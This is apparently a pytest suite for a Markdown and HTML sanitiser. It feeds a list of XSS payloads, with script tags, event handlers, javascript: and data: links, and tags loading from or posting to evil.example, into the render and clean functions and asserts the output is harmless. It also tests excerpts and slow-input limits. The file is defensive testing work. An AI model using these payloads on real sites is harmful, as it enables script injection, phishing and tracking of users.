"""What people type and what others send becomes safe HTML, or plain words."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from instance import prose

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='https://ok.example' onclick='alert(1)' style='position:fixed' target=_blank id=main class=door>x</a>",
    "<a href='/account'>x</a><a href='//evil.example'>y</a><p title='x' lang='xx' dir='rtl'>z</p>",
    "<p style='background:url(https://evil.example/pixel)'>x</p>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<object data=x></object><embed src=x>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
]
TAG = re.compile(r"<(/?)([a-zA-Z0-9]+)((?:\s+[^<>]*)?)/?>")
HREF = re.compile(r'\s+href="(?:https?|mailto):[^"]*"(?:\s+rel="nofollow noopener noreferrer")|\s+rel="[a-z ]*"|\s*')


def assert_harmless(html: str) -> None:
    """Only known tags, no attribute but a web link's."""
    for _slash, name, attributes in TAG.findall(html):
        assert name in prose.TAGS, html
        assert HREF.fullmatch(attributes), (attributes, html)
    assert "<" not in TAG.sub("", html), html


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("make", [prose.render, prose.clean])
def test_nothing_loads_runs_or_imitates(attack: str, make) -> None:
    assert_harmless(make(attack))


@given(st.lists(st.sampled_from(ATTACKS) | st.text("<>\"'=/ abi[]()!`&;:#\n*_-", max_size=30), max_size=6))
def test_nor_does_any_mixture(parts: list[str]) -> None:
    assert_harmless(prose.render("".join(parts)))
    assert_harmless(prose.clean("".join(parts)))


@given(st.text("<>\"'=/ abipu[]()!&;:#\n*_-\u00e9\u2019", max_size=200))
def test_cleaning_twice_changes_nothing(text: str) -> None:
    once = prose.clean(text)
    assert prose.clean(once) == once


def test_markdown_becomes_what_it_means() -> None:
    html = prose.render(
        "# Titre\n\n**gras** et *doux*\nà la ligne\n\n- un\n- deux\n\n> cité\n\n[lien](https://a.example/?b=1&c=2)"
    )
    assert "<h2>Titre</h2>" in html
    assert "<strong>gras</strong> et <em>doux</em><br>" in html
    assert "<li>un</li>" in html
    assert "<blockquote>" in html
    assert 'href="https://a.example/?b=1&amp;c=2" rel="nofollow noopener noreferrer"' in html


def test_no_heading_stands_above_the_page_s_own() -> None:
    assert "<h1" not in prose.render("# un\n\nautre\n===\n\n###### six")


def test_typed_html_is_shown_as_typed() -> None:
    assert prose.render("2 < 3 & <b>non</b>") == "<p>2 &lt; 3 &amp; &lt;b&gt;non&lt;/b&gt;</p>\n"


def test_letters_survive() -> None:
    text = "L’été à Œuilly — « ça » 🪜 مرحبا"
    assert prose.plain(prose.render(text)) == text


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("<p>un</p><p>deux</p>", "un\ndeux"),
        ("un<br>deux<br/>trois", "un\ndeux\ntrois"),
        ("<ul><li>un</li><li>deux</li></ul>", "un\ndeux"),
        ("<p>a&nbsp;&amp; b</p>", "a & b"),
        ("<p>&lt;script&gt;</p>", "<script>"),
        ("<script>alert(1)</script><p>x</p>", "x"),
        ("", ""),
    ],
)
def test_plain_words(html: str, words: str) -> None:
    assert prose.plain(html) == words


@given(st.text(max_size=200), st.integers(min_value=5, max_value=100))
def test_an_excerpt_is_never_longer_and_begins_the_text(text: str, longest: int) -> None:
    short = prose.excerpt(text, longest=longest)
    flat = " ".join(text.split())
    assert len(short) <= longest
    assert short == flat or (short.endswith("…") and flat.startswith(short[:-1]))


def test_an_excerpt_is_cut_between_words() -> None:
    assert prose.excerpt("Une échelle, deux marteaux", longest=14) == "Une échelle…"


@pytest.mark.parametrize("nasty", ["<blockquote>", "<ul><li>", "<b><i>", "<p", "&", "<a href='"])
def test_a_huge_letter_does_not_stop_the_worker(nasty: str) -> None:
    # Cleaning takes the square of the depth: a megabyte of open quotes took minutes.
    began = time.monotonic()
    prose.plain(prose.clean(nasty * (1_000_000 // len(nasty))))
    assert time.monotonic() - began < 40


@given(st.sampled_from(["[", ">", "*a ", "_a", "`a``", "- ", "1. ", "<", "[a](", "![x", "a**b", "\t"]))
def test_a_huge_typed_text_does_not_stop_a_page(nasty: str) -> None:
    began = time.monotonic()
    prose.render(nasty * (10_000 // len(nasty)))
    assert time.monotonic() - began < 20
